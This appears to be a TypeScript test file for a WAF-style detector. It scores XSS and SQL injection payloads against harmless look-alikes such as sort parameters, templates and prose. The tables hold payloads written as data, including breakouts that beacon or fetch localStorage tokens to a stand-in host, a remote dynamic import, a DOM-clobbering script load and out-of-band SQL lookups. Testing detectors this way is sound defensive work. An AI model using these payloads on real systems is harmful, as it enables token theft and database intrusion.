// Injection adapted to its context (test/support/variants/context-inject.ts): XSS breakouts from
// attributes, script strings, template literals, raw-text elements, comments and embedded JSON into
// namespace-confusion markup, newer handlers and call-less script; SQL in bare numbers, ORDER BY /
// GROUP BY / LIMIT positions, out-of-band lookups, JSON operators, dollar quotes, `\N`, second-order
// profile fields. Each kind has a detection floor (what is left is listed in the generator's notes
// and the report), and the look-alikes (sort parameters, scores, formulas, CSS, templates) all pass.
// Then one table per detector change the family asked for.
import { describe, expect, it } from "vitest";
import { inspect, sqliScore } from "../support/engine.js";
import { contextInjection, contextLookalike, INJECT_KINDS, type InjectKind } from "../support/variants/context-inject.js";
import { describeFamily } from "../support/variants/check.js";
import { hitRate } from "../support/variants/rate.js";

const SEED = 20261128;

/**
 * Floors per kind (hits of 400 at SEED, measured 2026-11-29, minus a margin). Below 100%:
 * `col LIMIT 1` sent in a header (a probe with no payload; it is a clause only in a parameter named as
 * a sort key, grouping or page size, and prose elsewhere: speed limit 50). (xss was 0.95 while a call or an
 * assignment after a closed object (`"};import('//x')//`, `"};location=name;//`) or in a template
 * literal (`${location=name}`, `${navigator.sendBeacon(...)}`) went unread: probe-seeds 69/4000 -> 5; the 5 were
 * clobbering chains over anchors of different ids, `<a id=CONFIG><a id=scriptSrc name=src href=//x/evil.js>`, which
 * rule 3023 now takes when the named anchor's id and name differ and its href leaves the page: 0 of 4000, misses24.)
 */
const FLOORS: Record<InjectKind, number> = {
  xss: 0.99, "sqli-numeric": 1, "sqli-clause": 0.95, "sqli-oob": 1, "sqli-json": 0.99, "sqli-syntax": 1, "sqli-second": 1,
};

describeFamily("injection adapted to its context", {
  passes: [["sort and filter parameters, scores, formulas, CSS and templates", contextLookalike, 800]],
}, (h) => {
  for (const kind of INJECT_KINDS) {
    it(`blocks at least ${FLOORS[kind] * 100}% of ${kind}`, () => {
      const r = hitRate(h(), contextInjection([kind]), 400, SEED);
      expect(r.hits / r.total).toBeGreaterThanOrEqual(FLOORS[kind]);
    });
  }

  // sqli/grammar.ts, sqli/tokenizer.ts
  const sqlTable: [string, string, boolean][] = [
    ["a CASE WHEN whose condition is parenthesised", "(CASE WHEN (12=34) THEN name ELSE price END)", true],
    ["... in two pairs of parentheses", "IF(1,(CASE WHEN ((7>3)) THEN 1 ELSE 0 END),0)", true],
    ["... with a subquery for its condition", "(CASE WHEN (SELECT COUNT(*) FROM users)>0 THEN 1 ELSE 2 END)", true],
    ["a JSON member (->>) compared with a literal after OR", "1 OR data->>'role'='admin'", true],
    ["a JSON path (->) compared with TRUE", "5 OR profile->'$.admin'=true-- -", true],
    ["a jsonb containment (@>) after OR", "1 OR tags @> '{admin}'", true],
    ["a literal compared with a qualified routine, the query cut off", "1 AND 1=DBMS_LDAP.INIT('a.example',80)-- -", true],
    ["... an unknown package's routine", "1 AND 7=pkg_net.ping('a.example')-- -", true],
    ["any function fed a SQL-only name, compared with a literal", "1 AND JSON_LENGTH(current_user)>0", true],
    ["... fed user()", "1 AND JSON_LENGTH(user())>0-- -", true],
    ["a function fed a plain word, compared with a literal", "1 and total(price)>0", false],
    ["MySQL's \\N glued to UNION", "\\Nunion select 1,2", true],
    ["a tagged dollar-quoted string in a stacked SELECT", ";SELECT $ab$x$ab$||current_user--", true],
    ["a case expression in prose", "in case when (it rains) then stay home", false],
    ["an arrow in a changelog", "1 or 2 steps: build->test->'deploy'", false],
    ["a literal compared with a routine, a remark after it", "row 1 and 1=total(A1:A9) -- check it", false],
    ["worked sums joined by and", "3*4=12 and 12/4=3", false],
    ["a Windows path with \\N", "C:\\Nightly\\union station.txt", false],
    ["a price with dollar signs", "save $5$ today, select one", false],
    ["a PostgreSQL positional parameter", "where id = $1 and name = $2", false],
  ];
  describe("sqli: parenthesised CASE conditions, JSON operators, routines before a cut-off, \\N, tagged dollar quotes", () => {
    for (const [what, v, attack] of sqlTable) {
      it(`${attack ? "blocks" : "passes"} ${what}: ${JSON.stringify(v)}`, () => {
        if (attack) expect(sqliScore(h(), v)).toBeGreaterThanOrEqual(5);
        else expect(sqliScore(h(), v)).toBeLessThan(5);
      });
    }
  });

  // sqli.ts sortKey, sqli/shapes.ts clauseTail: a column then LIMIT n is a clause where the parameter's name says
  // the value is a sort key, a grouping or a page size; prose everywhere else
  const sortTable: [string, string, string, boolean][] = [
    ["a sort parameter", "sort", "price LIMIT 1", true],
    ["... spelled orderBy", "orderBy", "created_at LIMIT 1", true],
    ["... spelled Order_By", "Order_By", "id LIMIT 1", true],
    ["a page-size parameter", "limit", "email LIMIT 1", true],
    ["a grouping parameter", "group", "region LIMIT 2", true],
    ["a search", "q", "speed limit 50", false],
    ["a report's title", "report", "speed limit 50", false],
    ["a sort with a direction", "sort", "name desc", false],
    ["two sort keys", "order_by", "updated_at DESC, id ASC", false],
    ["a page size", "limit", "50", false],
    ["a grouping name", "group", "Speed limit fans", false],
  ];
  describe("sqli: a column then LIMIT n in a sort, grouping or page-size parameter", () => {
    for (const [what, name, v, attack] of sortTable) {
      it(`${attack ? "blocks" : "passes"} ${what}: ${name}=${JSON.stringify(v)}`, () => {
        for (const req of [
          { path: `/api/list?${name}=${encodeURIComponent(v)}`, headers: [["host", "a"]] as [string, string][] },
          { method: "POST", path: "/api/list", headers: [["host", "a"], ["content-type", "application/json"]] as [string, string][], body: JSON.stringify({ page: { [name]: v } }) },
        ]) {
          if (attack) expect(inspect(h(), req).score).toBeGreaterThanOrEqual(5);
          else expect(inspect(h(), req).score).toBeLessThan(5);
        }
      });
    }
  });

  // xss/js.ts, xss.ts
  const xssTable: [string, string, boolean][] = [
    ["a sink handed to Reflect.apply", "${Reflect.apply(alert,null,[1])}", true],
    ["a sink made a handler inside a block", "${{onerror=prompt}throw 1}", true],
    ["a sink made a conversion hook", "${valueOf=alert,window+''}", true],
    ["... after a JSON object closed in a script", "\"};valueOf=alert,window+'';//", true],
    ["a code-running call after a JSON object closed", "\"});setTimeout(name)//", true],
    ["a settings line naming an alert level", "level=alert; mode=confirm, retry=prompt}", false],
    ["a handler-like key set to a word", "{on=alert}", false],
    ["a function list in prose", "use apply(alert, confirm) carefully", false],
    ["braces around a template", "Hello {{ user.name }}, see {alert} docs", false],
  ];
  // xss/breakouts.ts scanAssignmentBreakout: the object or call closed with the string, `${` as an
  // opener, and a call of any name in a value that ends as a breakout ends
  const breakoutTable: [string, string, boolean][] = [
    ["a global assigned after a JSON object closed", "\"};location=name;//", true],
    ["... after an array and a call closed", "']);location.hash=name//", true],
    ["a global assigned in a template literal's expression", "${location=name}", true],
    ["a dotted member assigned in a template literal", "${location.href=name}", true],
    ["a dynamic import after a JSON object closed", "\"};import('//x.example/m.js');//", true],
    ["a beacon sent between two operators", "'-navigator.sendBeacon('//x.example',localStorage.token)-'", true],
    ["... after an array and a call closed", "\"]);navigator.sendBeacon('//x.example',localStorage.token);//", true],
    ["a beacon sent in a template literal", "${navigator.sendBeacon('//x.example',localStorage.token)}", true],
    ["a page global fetched in a template literal", "${fetch('//x.example/?'+localStorage.token)}", true],
    ["a quoted phrase, then a call in prose", "\"hello\" - see(1) -'", false],
    ["a JS snippet concatenating strings", "var s = \"a\" + b.c(d) + \"e\";", false],
    ["a Terraform interpolation calling a function", "${format(\"%s-%s\", var.env, var.name)}", false],
    ["a Groovy template calling a method", "${params.branch.trim()}", false],
    ["a shell default expansion", "${HOME=/tmp}", false],
    ["a CSV line with a call in a cell", "\"name\";total(3);\"x\"", false],
    ["a JSON fragment with a dotted key", "{\"a\":\"b\"};c.d=1", false],
    ["a quoted remark and a function in a sentence", "\"fixed\", then call init() again", false],
  ];

  const xssCases = (table: [string, string, boolean][]) => () => {
    for (const [what, v, attack] of table) {
      it(`${attack ? "blocks" : "passes"} ${what}: ${JSON.stringify(v)}`, () => {
        const req = { path: `/p?q=${encodeURIComponent(v)}`, headers: [["host", "a"]] as [string, string][] };
        if (attack) expect(inspect(h(), req).score).toBeGreaterThanOrEqual(5);
        else expect(inspect(h(), req).score).toBeLessThan(5);
      });
    }
  };
  describe("xss: sinks passed on as values, JSON closed before script", xssCases(xssTable));
  describe("xss: a call or an assignment after a closed object, an array or a call, or in a template literal", xssCases(breakoutTable));
});
